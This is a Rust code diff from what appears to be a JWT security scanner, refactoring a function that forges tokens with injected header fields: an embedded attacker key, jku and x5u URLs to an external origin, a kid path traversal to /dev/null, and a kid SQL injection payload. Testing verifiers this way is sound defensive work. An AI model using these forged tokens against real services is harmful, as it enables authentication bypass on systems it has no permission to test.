@@ -25,6 +25,9 @@ use crate::redact::Redactor;
 /// How long a valid token is valid, and by how much a bad one misses its time.
 const HOUR: i64 = 3600;
 
+/// The `kid` of the key that forged tokens are signed with.
+const FORGERS_KEY: &str = "siospec";
+
 /// After this a kept token is made anew: a long run must not end with tokens that run out.
 const REUSE: Duration = Duration::from_secs(20 * 60);
 
@@ -289,36 +292,48 @@ impl Tokens {
             .collect()
     }
 
-    /// Tokens whose header tells the server which key to verify with: one of ours (RFC 8725, sections 3.10 and 2.6).
-    /// Each with the header field and what it tries.
+    /// The key that forged tokens are signed with, as a JSON Web Key (RFC 7517).
     ///
     /// # Errors
-    /// Making the key or signing failed.
-    pub fn key_injections(&self, client: &str) -> Result<Vec<(&'static str, String)>, TokenError> {
+    /// The key cannot be made.
+    pub fn forgers_key(&self) -> Result<Value, TokenError> {
+        let algorithm = self.algorithm();
+        let jwk = Jwk::from_encoding_key(self.foreign_key()?, algorithm).map_err(|e| signing_error(algorithm, &e))?;
+        let mut jwk = serde_json::to_value(jwk).unwrap_or_default();
+        jwk["kid"] = json!(FORGERS_KEY);
+        Ok(jwk)
+    }
+
+    /// Tokens whose header tells the server which key to verify with: one of ours (RFC 8725, sections 3.10 and 2.6).
+    /// Each with the header field and what it tries. `elsewhere` is an origin that serves a set of the
+    /// [forger's key](Tokens::forgers_key).
+    ///
+    /// # Errors
+    /// Signing failed.
+    pub fn key_injections(&self, client: &str, elsewhere: &str) -> Result<Vec<(&'static str, String)>, TokenError> {
         let algorithm = self.algorithm();
         let foreign = self.foreign_key()?;
-        let jwk = Jwk::from_encoding_key(foreign, algorithm).map_err(|error| signing_error(algorithm, &error))?;
-        let jwk = serde_json::to_value(jwk).unwrap_or_default();
         // `kid` attacks make the server read a key whose content is known: an empty file, a text from a query. Only a
         // symmetric key can be had that way.
         let symmetric = |known: &[u8]| match algorithm.family() {
             AlgorithmFamily::Hmac => EncodingKey::from_secret(known),
             _ => foreign.clone(),
         };
-        let cases: [(&'static str, &'static str, Value, EncodingKey); 5] = [
-            ("jwk: the forger's own key", "jwk", jwk, foreign.clone()),
-            ("jku: a key set elsewhere", "jku", json!("https://siospec.invalid/jwks.json"), foreign.clone()),
-            ("x5u: a certificate elsewhere", "x5u", json!("https://siospec.invalid/cert.pem"), foreign.clone()),
-            ("kid: path traversal", "kid", json!("../../../../../../../../dev/null"), symmetric(b"")),
-            ("kid: SQL", "kid", json!("' UNION SELECT 'siospec' -- "), symmetric(b"siospec")),
+        let named = |field: &str, path: &str| json!({ field: format!("{elsewhere}{path}"), "kid": FORGERS_KEY });
+        let cases = [
+            ("jwk: the forger's own key", json!({ "jwk": self.forgers_key()? }), foreign.clone()),
+            ("jku: a key set elsewhere", named("jku", "/jwks.json"), foreign.clone()),
+            ("x5u: a certificate elsewhere", named("x5u", "/cert.pem"), foreign.clone()),
+            ("kid: path traversal", json!({ "kid": "../../../../../../../../dev/null" }), symmetric(b"")),
+            ("kid: SQL", json!({ "kid": "' UNION SELECT 'siospec' -- " }), symmetric(b"siospec")),
         ];
         cases
             .into_iter()
-            .map(|(what, field, value, key)| {
+            .map(|(what, fields, key)| {
                 let label = format!("token of {client} with {what}");
                 let token = self.remember(&label, || {
                     let mut header = header(algorithm);
-                    header.insert(field.to_owned(), value);
+                    header.extend(fields.as_object().cloned().unwrap_or_default());
                     sign(&header, &self.claims(client), &key, algorithm)
                 })?;
                 Ok((what, token))
